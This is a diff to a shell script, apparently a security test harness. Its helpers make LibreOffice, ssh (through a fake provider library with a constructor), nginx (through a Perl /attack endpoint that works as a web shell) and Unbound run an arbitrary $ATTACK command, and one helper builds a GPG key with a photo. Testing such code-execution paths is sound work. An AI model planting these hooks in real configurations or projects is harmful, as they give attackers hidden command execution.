@@ -201,3 +201,47 @@ while part := server.recv(65536):
 print(answer.decode(errors="replace"))
 END
 }
+
+# make_macro: a user's folder of LibreOffice, in lo, whose macro runs $ATTACK.
+make_macro() {
+    soffice --headless "-env:UserInstallation=file://$WORK/lo" --terminate_after_init >/dev/null 2>&1
+    cat >lo/user/basic/Standard/Module1.xba <<END
+<?xml version="1.0" encoding="UTF-8"?>
+<script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main
+Shell("${ATTACK%% *}", 0, "$WORK/attack.py", True)
+End Sub
+</script:module>
+END
+}
+
+# make_object: a shared object, attack.so, that runs $ATTACK when it is loaded.
+make_object() {
+    printf '%s\n' '#include <stdlib.h>' 'int C_GetFunctionList(void) { return 1; } /* what ssh looks for in a provider */' \
+        "__attribute__((constructor)) static void attack(void) { system(\"$ATTACK >&2\"); }" |
+        gcc -shared -fPIC -x c -o attack.so -
+}
+
+# make_picture_key: a keyring in keys, of one key that has a picture.
+make_picture_key() {
+    mkdir -m 700 keys
+    convert -size 8x8 xc:red a.jpg
+    gpg --homedir keys -q --batch --passphrase '' --quick-generate-key me@example.org
+    printf 'addphoto\n%s\ny\nsave\n' "$WORK/a.jpg" | gpg --homedir keys -q --batch --command-fd 0 --edit-key me@example.org
+    gpgconf --homedir keys --kill all
+}
+
+make_nginx_perl() {
+    make_nginx
+    sed -i '1i load_module /usr/lib/nginx/modules/ngx_http_perl_module.so;' nginx.conf
+    sed -i "s|root |location /attack { perl 'sub { my \$r = shift; \$r->send_http_header(\"text/plain\"); \$r->print(\`$ATTACK\`); return OK }'; } &|" nginx.conf
+}
+
+make_unbound_python() {
+    make_unbound
+    cp /usr/lib/python3/dist-packages/unboundmodule.py .  # it looks here, and not there
+    sed -i '1a module-config: "python iterator"' unbound.conf
+    printf 'python:\n  python-script: "%s/mod.py"\n' "$WORK" >>unbound.conf
+    printf 'import subprocess\nsubprocess.run("%s".split())\n' "$ATTACK" >mod.py
+    printf 'def init(*_): return True\ndef deinit(*_): return True\ndef inform_super(*_): return True\n' >>mod.py
+    printf 'def operate(id, event, state, data):\n    state.ext_state[id] = 6 if event == 1 else 2\n    return True\n' >>mod.py
+}
